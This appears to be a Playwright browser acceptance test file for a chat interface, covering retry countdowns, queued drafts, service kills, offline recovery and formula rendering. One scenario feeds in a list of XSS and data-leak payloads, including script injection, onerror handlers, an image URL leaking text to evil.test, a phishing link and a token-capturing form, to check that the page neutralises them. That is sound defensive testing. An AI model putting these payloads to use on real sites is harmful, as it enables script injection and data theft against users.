/** What a person meets at the page, shown in a real browser. */
import { EventEmitter, once } from "node:events"
import type { Page } from "playwright-core"
import { ensure, same, show } from "../../../../tools/src/acceptance/Report.ts"
import * as FocusScenarios from "./FocusScenarios.ts"
import * as Attachments from "./Attachments.ts"
import * as HeldCallScenarios from "./HeldCallScenarios.ts"
import * as Notices from "./Notices.ts"
import * as Palette from "./Palette.ts"
import * as Origin from "./Origin.ts"
import * as Token from "./Token.ts"
import * as ToolQuestions from "./ToolQuestions.ts"
import * as Updated from "./Updated.ts"
import { LONG, OVERLOADED, prompt, type Rig, seen, until, wait, waiting } from "./Rig.ts"

/** Runs all scenarios, side by side: most of their time passes in waits. */
export const run = async (rig: Rig): Promise<void> => {
  await Promise.all([
    outage(rig),
    commands(rig),
    questions(rig)
      .then(() => hostile(rig))
      .then(() => formulas(rig)),
    tabs(rig)
      .then(() => night(rig))
      .then(() => HeldCallScenarios.run(rig)),
    withService(rig, killed),
    withService(rig, cut),
    Token.run(rig)
      .then(() => Origin.run(rig))
      .then(() => Updated.run(rig)),
    ToolQuestions.run(rig).then(() => FocusScenarios.run(rig)),
    Palette.run(rig).then(() => Attachments.run(rig)),
    withService(rig, Notices.run)
  ])
}

// --- internal

const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true })

const outage = (rig: Rig) =>
  show("rule D13: an outage is watched from the first 429 to the answer, with a live countdown", async () => {
    const held = new EventEmitter()
    rig.provider.plan(
      "outage",
      OVERLOADED,
      { ...OVERLOADED, status: 529 },
      {
        pieces: ["# The night\n\nNothing ", once(held, "go"), "happened."]
      }
    )
    const page = await rig.open()
    await page.goto(rig.service.url)
    await page.getByLabel("Model", { exact: true }).fill("local/outage")
    await page.getByLabel("Tags").fill("nightly team/ops")
    await prompt(page, "Summarise yesterday's incidents.")

    const notice = wait(page)
    await seen(notice, "429")
    await seen(notice, OVERLOADED.message)
    await seen(notice, "Retry 1")
    await seen(notice, /waiting time left/)
    await seen(page.locator(".entry"), /waits \d/)
    const color = await notice.evaluate((element) => getComputedStyle(element).backgroundColor)
    const [red = 0, green = 0, blue = 0] = color.match(/\d+/g)?.map(Number) ?? []
    ensure(red > 200 && green > 200 && blue < green - 20, `the message is yellow: ${color}`)
    const first = await notice.getByRole("timer").textContent()
    await page.waitForFunction((text) => document.querySelector("[role=timer]")?.textContent !== text, first)

    // The wait ends when all of it was looked at, however slow the machine is.
    await shorten(page)
    await seen(notice, "529")
    await seen(notice, "Retry 2")
    await shorten(page)
    await seen(page, "Nothing")
    await notice.waitFor({ state: "detached" })
    ensure(!(await page.locator(".message.assistant").innerText()).includes("happened"), "the answer is arriving")
    held.emit("go")
    await seen(page, "Nothing happened.")
    await seen(page, "Answered at retry 2.")
    await seen(page.locator(".entry.selected"), "done")
    same(await page.locator(".message.assistant .from h2").allInnerTexts(), ["local/outage"], "the model that answered")
    same(await page.getByText("Nothing happened.").count(), 1, "the answer is there once")

    await page.getByRole("searchbox").fill("no such prompt")
    await seen(page, "No conversation matches.")
    await page.getByRole("searchbox").fill("INCIDENTS")
    await page.locator(".entry").first().waitFor()
    await page
      .locator(".entry")
      .getByRole("button", { name: /nightly/ })
      .click()
    await page.locator(".list-head .tag").waitFor()
    await page.getByRole("button", { name: "Rename" }).click()
    await page.getByLabel("Title", { exact: true }).fill("Incidents of the week")
    await page.keyboard.press("Enter")
    await until(page, () => document.activeElement?.textContent === "Rename")
    await seen(page.locator("h1"), "Incidents of the week")
    await seen(page.locator(".entry"), "Incidents of the week")
    await page.context().close()
  })

const commands = async (rig: Rig): Promise<void> => {
  await show("retry now, by the keyboard alone", async () => {
    const page = await waiting(rig, "now", [OVERLOADED, { pieces: ["Good morning."] }])
    await page.getByLabel("Messages").focus()
    while (!(await button(page, "Retry now").evaluate((element) => element === document.activeElement))) {
      await page.keyboard.press("Tab")
    }
    await page.keyboard.press("Enter")
    await seen(wait(page), "Retry 2")
    await button(page, "Retry now").click()
    await seen(page, "Good morning.")
    await seen(page, "Answered at retry 2.")
    const why = button(page, "Why?")
    await why.press("Enter")
    await seen(page.getByRole("region", { name: "Explanation" }), /429/)
    await page.keyboard.press("Escape")
    await why.waitFor()
    await page.context().close()
  })
  await show(
    "a draft survives navigation and reload, and goes when it is sent; the tab's title has the wait",
    async () => {
      const page = await waiting(rig, "draft", [], { mayFail: true })
      await page.waitForFunction(() => /^\(\d.* (?:s|m)\) /u.test(document.title))
      const field = page.getByLabel("Prompt", { exact: true })
      await field.fill("Not yet sent")
      await page.goBack()
      await page.goForward()
      same(await field.inputValue(), "Not yet sent", "the draft after navigation")
      // The page learns the state from before the prompt only when the prompt was accepted.
      const accepted = page.waitForResponse((response) => response.request().method() === "POST")
      // The queue is read again where a read of its prompts has failed.
      await page.route(/\/v1\/turns\?status=queued/u, (route) => route.fulfill({ status: 400 }), { times: 1 })
      // A read may be left when the page is loaded anew or closed.
      await page.route(/\/v1\/conversations\/[^/?]+$/u, (route) =>
        route
          .fetch()
          .then((response) => accepted.then(() => route.fulfill({ response })))
          .catch(() => undefined)
      )
      await page.reload()
      same(await field.inputValue(), "Not yet sent", "the draft after a reload")
      await wait(page).waitFor()
      await button(page, "Send").click()
      await seen(page, "1 prompt queued behind this turn")
      await seen(page.getByRole("region", { name: "Queued prompts" }), "Not yet sent")
      await seen(page.locator(".entry.selected"), /waits \d/)
      await asks(page)
      const queue = page.getByRole("region", { name: "Queued prompts" })
      await button(page, "Edit “Not yet sent”").press("Enter")
      await queue.waitFor({ state: "detached" })
      same(await field.inputValue(), "Not yet sent", "the prompt that was queued")
      await button(page, "Send").click()
      await button(page, "Cancel “Not yet sent”").click()
      await queue.waitFor({ state: "detached" })
      await wait(page).waitFor()
      await page.reload()
      same(await field.inputValue(), "", "the draft that was sent")
      const more = page.locator("summary", { hasText: "More" })
      await page.setViewportSize({ width: 360, height: 700 })
      // As a long name of a model does, the menu's row begins at the left.
      await page
        .locator(".title .model")
        .evaluate((element: HTMLElement) => Object.assign(element.style, { width: "100%" }))
      await more.press("Enter")
      const box = await page.locator(".menu-box").boundingBox()
      ensure(box !== null && box.x >= 0 && box.x + box.width <= 360, `the menu is on a narrow screen: ${box?.x}`)
      await page.evaluate("navigator.clipboard.writeText = () => Promise.reject(new Error('There is no clipboard.'))")
      await button(page, "Copy as Markdown").press("Enter")
      await seen(page.getByRole("alert"), "There is no clipboard.")
      await until(page, () => document.activeElement?.textContent === "More")
      await more.press("Enter")
      await button(page, "Download as Markdown").press("Escape")
      await button(page, "Download as Markdown").waitFor({ state: "hidden" })
      await more.click()
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        button(page, "Download as Markdown").click()
      ])
      ensure(download.suggestedFilename().endsWith(".md"), "a conversation is a file of Markdown")
      page.once("dialog", (question) => void question.accept())
      await more.click()
      await button(page, "Delete …").click()
      await page.locator(".title").waitFor({ state: "detached" })
      await page.context().close()
    }
  )
  await show("a screen reader gets a wait once, and not each second", async () => {
    const page = await waiting(rig, "quiet")
    await page.evaluate(
      "globalThis.announced = 0; new MutationObserver(() => announced++).observe(document.querySelector('[data-testid=announcement]'), { subtree: true, childList: true, characterData: true })"
    )
    await announced(page, "The provider is overloaded. Retry 1 at ")
    await page.evaluate(
      "globalThis.ticks = 0; new MutationObserver(() => ticks++).observe(document.querySelector('[role=timer]'), { subtree: true, childList: true, characterData: true })"
    )
    await page.waitForFunction(() => (globalThis as unknown as { ticks: number }).ticks >= 3)
    same(await page.evaluate("announced"), 0, "announcements while the countdown went on")
    await page.context().close()
  })
  await show("wait until, extend the budget, switch the model", async () => {
    const page = await waiting(rig, "moved")
    await button(page, "Extend budget …").click()
    await button(page, "8 h").click()
    await seen(wait(page), /of 16 h waiting time left/)
    await button(page, "Wait until …").click()
    const at = new Date(Date.now() + 5.5 * 3_600_000)
    const local = new Date(at.getTime() - at.getTimezoneOffset() * 60_000).toISOString().slice(0, 16)
    await page.getByLabel("Wait until", { exact: true }).fill(local)
    await page.keyboard.press("Enter")
    await seen(wait(page), /in 5 h 2\d m/)
    await button(page, "Switch model …").click()
    await page.getByLabel("Go on with").fill("other/plain")
    await page.keyboard.press("Enter")
    await seen(page, "Here is the answer.")
    await seen(page, "goes on with other/plain")
    same(await page.locator(".message.assistant .from h2").allInnerTexts(), ["other/plain"], "the model that answered")
    await page.context().close()
  })
  await show("a command that the service refuses shows why", async () => {
    const page = await waiting(rig, "refused", [], { mayFail: true })
    await button(page, "Switch model …").click()
    await page.getByLabel("Go on with").fill("nowhere/at-all")
    await page.keyboard.press("Enter")
    await seen(page.getByRole("alert"), /nowhere/)
    await wait(page).waitFor()
    await page.context().close()
  })
  await show("give up, then retry; stop, then retry", async () => {
    const page = await waiting(rig, "ended", [
      { pieces: ["Back again."] },
      { pieces: ["Part ", new Promise(() => {})] },
      {
        pieces: ["After the stop."]
      }
    ])
    same(await button(page, "Retry").count(), 0, "buttons for a retry while the turn waits")
    await button(page, "Give up").click()
    await seen(page.locator(".failure"), OVERLOADED.message)
    await seen(page.locator(".entry.selected"), "failed")
    await button(page, "Retry").click()
    await seen(page, "Back again.")
    same(await button(page, "Retry").count(), 0, "buttons for a retry after an answer")
    await prompt(page, "And now?")
    await seen(page, "Part")
    await button(page, "Stop this turn").click()
    await seen(page, /^Aborted/)
    await button(page, "Retry").click()
    await seen(page, "After the stop.")
    same(await page.locator(".message.user").count(), 2, "prompts of the person: a retry adds none")
    await page.context().close()
  })
}

/** A turn with a prompt behind it is stopped after a question, which says that the prompt stays. */
const asks = async (page: Page): Promise<void> => {
  const asked = page.waitForEvent("dialog").then(async (question) => {
    await question.dismiss()
    return question.message()
  })
  await button(page, "Stop this turn …").click()
  same(
    await asked,
    "Stop the answer to “Summarise yesterday's incidents.”? The 1 prompt queued behind it stays, and runs next.",
    "the question"
  )
  await wait(page).waitFor()
}

const questions = (rig: Rig) =>
  show("the question of the spend guard is asked and answered", async () => {
    rig.provider.plan("dear", OVERLOADED, { pieces: ["It was worth it."] })
    const page = await rig.open()
    const spendGuard = { after: "10 millis", maxInputTokens: 1, answerWithin: "2 hours" }
    const schedule = { type: "steps", delays: ["100 millis"] }
    await page.goto(await rig.create({ model: "local/dear", retry: { schedule, spendGuard } }))
    await prompt(page, "Read all of it.")
    await seen(wait(page), /left to answer/)
    await seen(wait(page), "Holdfast asks before it goes on")
    await seen(page.locator(".entry.selected"), /asks you/)
    await announced(page, "waits for your answer")
    await button(page, "Go on").click()
    await seen(page, "It was worth it.")
    await page.context().close()
  })

const tabs = (rig: Rig): Promise<void> =>
  show("a reload in a wait, and a second tab, show the same wait with the true time left", async () => {
    const page = await waiting(rig, "tabs", [{ pieces: ["To both."] }])
    const other = await page.context().newPage()
    await other.goto(page.url())
    await wait(other).waitFor()
    await page.reload()
    await wait(page).waitFor()
    for (const tab of [page, other]) {
      await seen(wait(tab), /in 59 m/)
      await seen(wait(tab), OVERLOADED.message)
    }
    await button(other, "Retry now").click()
    for (const tab of [page, other]) {
      await seen(tab, "To both.")
      same(await tab.locator(".message.assistant").count(), 1, "answers in a tab")
    }
    await page.context().close()
  })

/** Waits until a text is announced to screen readers. */
const announced = (page: Page, text: string): Promise<void> =>
  page.getByTestId("announcement").filter({ hasText: text }).waitFor({ state: "attached" })

/** Moves the end of the wait to a moment from now. */
const shorten = async (page: Page): Promise<void> => {
  const [origin, id = ""] = page.url().split("/#/c/")
  const response = await fetch(`${origin}/v1/conversations/${id}/wait-until`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ until: Date.now() + 1_500 })
  })
  same(response.status, 202, "the command")
}

/** Runs scenarios that their service does not outlive. */
const withService = async (rig: Rig, scenarios: (rig: Rig) => Promise<void>): Promise<void> => {
  const own = await rig.serve()
  await scenarios(own)
  await own.service.remove()
}

const killed = async (rig: Rig): Promise<void> => {
  await show("the service is killed in a wait and restarted under the open page", async () => {
    rig.provider.plan("killed", OVERLOADED, { pieces: ["After the restart."] })
    const page = await rig.open({ mayFail: true })
    await page.goto(await rig.create({ model: "local/killed", retry: LONG }))
    await prompt(page, "Are you there?")
    await wait(page).waitFor()
    await rig.service.kill()
    await seen(page, "The connection to the service is lost.")
    await seen(wait(page), OVERLOADED.message)
    await button(page, "Retry now").click()
    await prompt(page, "A prompt that is not lost")
    await seen(page, /Not sent: The service does not answer/)
    same(await page.getByLabel("Prompt", { exact: true }).inputValue(), "A prompt that is not lost", "the prompt")
    await rig.service.start()
    await until(page, () => document.querySelector(".link-lost") === null)
    await seen(wait(page), /in 59 m/)
    await seen(wait(page), /^The service’s process died\. The next one went on with this wait at/)
    await button(page, "Retry now").click()
    await seen(page, "After the restart.")
    const night = await page.context().newPage()
    await night.goto(`${rig.service.url}/#/night`)
    await night.getByLabel("Model", { exact: true }).fill("local/killed")
    await night.locator(".row .course path.lost").first().waitFor({ state: "attached" })
    ensure(
      /1 death of the service in a wait/.test((await night.locator(".row").first().textContent()) ?? ""),
      "words of the death"
    )
    await night.close()
    await button(page, "Send").click()
    await seen(page.locator(".message.user"), "A prompt that is not lost")
    await page.context().close()
  })
  await show("text of a killed process is taken back before the new text", async () => {
    const gate = new EventEmitter()
    rig.provider.plan(
      "void",
      { pieces: ["These words are void. ", new Promise(() => {})] },
      {
        pieces: [once(gate, "go"), "These words count."]
      }
    )
    const page = await rig.open({ mayFail: true })
    await page.goto(await rig.create({ model: "local/void", retry: LONG }))
    await prompt(page, "Speak.")
    await seen(page, "These words are void.")
    await rig.service.kill()
    await rig.service.start()
    await seen(page.locator(".voided"), "Taken back:")
    await seen(page.locator(".voided del"), "These words are void.")
    gate.emit("go")
    await seen(page, "These words count.")
    same(await page.getByText("These words are void.").count(), 0, "void text beside the answer")
    await seen(page, "Text was taken back.")
    await page.context().close()
  })
}

const cut = (rig: Rig): Promise<void> =>
  show("a network that is cut and comes back: the page says so and catches up", async () => {
    const page = await rig.open({ mayFail: true })
    await page.goto(await rig.create({ model: "local/cut" }))
    await prompt(page, "First.")
    await seen(page, "Here is the answer.")
    await page.context().setOffline(true)
    await seen(page, "The service does not answer.")
    await prompt(page, "Second.")
    await seen(page, /Not sent/)
    await page.context().setOffline(false)
    await button(page, "Send").click()
    await page.getByText("Here is the answer.").nth(1).waitFor()
    await page.context().close()
  })

const HOSTILE = [
  "# Report <script>window.attacked = true</script>",
  '<img src="https://evil.test/a.png" onerror="window.attacked = true">',
  "![a chart](https://evil.test/leak?text=secret)",
  "[your bank](https://evil.test/login) and [run](javascript:window.attacked=true)",
  '<svg onload="window.attacked = true"><a href="https://evil.test">x</a></svg>',
  '<iframe src="https://evil.test"></iframe><style>body { display: none }</style>',
  '<form action="https://evil.test"><input name="token"><button>Send</button></form>',
  '<div style="position:fixed;inset:0">Your session has ended</div>',
  "```js\nconst code = '<b>'\n```"
].join("\n\n")

const hostile = (rig: Rig) =>
  show("what a hostile model and a hostile tool send never runs, loads or leaves its box", async () => {
    rig.provider.plan(
      "hostile",
      { tool: { name: "read_file", input: { path: "<script>window.attacked=true</script>" } } },
      { pieces: HOSTILE.match(/[^]{1,17}/g) ?? [] }
    )
    const page = await rig.open()
    await page.goto(await rig.create({ model: "local/hostile", retry: LONG, title: "<img src=x onerror=alert(1)>" }))
    await prompt(page, '<img src="https://evil.test/prompt.png" onerror="window.attacked=true">')
    await seen(page, "Your session has ended")
    await seen(page.locator(".entry.selected"), "done")
    await page.locator("details.tool summary").first().click()
    await seen(page.locator("details.tool"), /evil\.test\/tool\.png/)
    same(await page.evaluate("'attacked' in globalThis"), false, "a script ran")
    const found = await page.evaluate(() =>
      Array.from(
        document.querySelectorAll("main :is(img, script, svg, iframe, style, form input[name=token], [style*=fixed])"),
        (element) => element.outerHTML
      )
    )
    same(found, [], "elements of the hostile text")
    await seen(page, "Image “a chart”, not loaded: https://evil.test/leak?text=secret")
    const links = await page
      .locator(".message.assistant a")
      .evaluateAll((all) =>
        all.map((link) => [link.getAttribute("href"), link.getAttribute("rel"), link.getAttribute("target")])
      )
    same(links, [["https://evil.test/login", "noopener noreferrer nofollow", "_blank"]], "links")
    await seen(page, "(evil.test)")
    await page.context().close()
  })

const formulas = (rig: Rig) =>
  show("a formula is text until it is whole, then MathML; one with mistakes stays text", async () => {
    const held = new EventEmitter()
    rig.provider.plan("formulas", {
      pieces: [
        "For $x \\in \\mathbb{R}$ at $5:\n\n\\[\n\\frac{a}",
        once(held, "go"),
        "{b}\n\\]\n\nAnd $\\frac{a$, \\(\\textcolor{red}{c}\\)."
      ]
    })
    const page = await rig.open()
    await page.goto(await rig.create({ model: "local/formulas" }))
    await prompt(page, "Which formulas?")
    await page.locator("math", { hasText: "ℝ" }).waitFor()
    await seen(page.locator(".formula.display"), "\\frac{a}")
    same(await page.locator("math").count(), 1, "formulas that are whole")
    held.emit("go")
    await page.locator(".formula.display mfrac").waitFor()
    await seen(page.locator(".message.assistant"), "And $\\frac{a$, c.")
    await page.locator("math").nth(2).waitFor()
    same(await page.locator("math").count(), 3, "formulas")
    // The answer is drawn anew when it has ended, so an element that was found may be gone.
    await until(page, () => {
      const letters = [...document.querySelectorAll("math mi")]
      return letters.some((each) => each.textContent === "c" && getComputedStyle(each).color === "rgb(255, 0, 0)")
    })
    await page.context().close()
  })

const night = (rig: Rig) =>
  show("the night: the report, the turns of a filter, and why a turn did what it did", async () => {
    rig.provider.plan("nights", OVERLOADED, { status: 401, message: "Incorrect API key provided.", type: "auth" })
    const page = await rig.open()
    const address = await rig.create({ model: "local/nights", retry: LONG, tags: ["of-the-night"] })
    await page.goto(address)
    await prompt(page, "What happened in the night?")
    await wait(page).waitFor()
    await page.getByRole("link", { name: "Report", exact: true }).click()
    await seen(page.locator(".report-line"), /answered/)
    await page.getByLabel("Model", { exact: true }).fill("local/nights")
    await seen(page, /^1 turn$/)
    await seen(page.locator(".row"), /waits until/)
    await page.getByRole("link", { name: "Conversations", exact: true }).click()
    await page.locator(`.entry a[href="${new URL(address).hash}"]`).click()
    await button(page, "Retry now").click()
    await seen(page.locator(".failure"), "Incorrect API key provided.")
    await page.getByRole("link", { name: "Report", exact: true }).click()
    await page.getByLabel("Status").selectOption("failed")
    await page.getByLabel("Model", { exact: true }).fill("local/nights")
    await seen(page, /^1 turn$/)
    await seen(page.locator(".row"), /failed in .*, 2 calls/)
    await seen(page.locator(".figures"), "Incorrect API key provided.")
    await page.locator(".row").focus()
    await page.keyboard.press("Enter")
    const why = page.getByRole("region", { name: "Explanation" })
    await seen(why, /429/)
    await seen(why, /to retry at once/)
    await page.keyboard.press("Escape")
    await why.waitFor({ state: "detached" })
    await page.getByLabel("Status").selectOption("completed")
    await seen(page, /^0 turns$/)
    await page.context().close()
  })
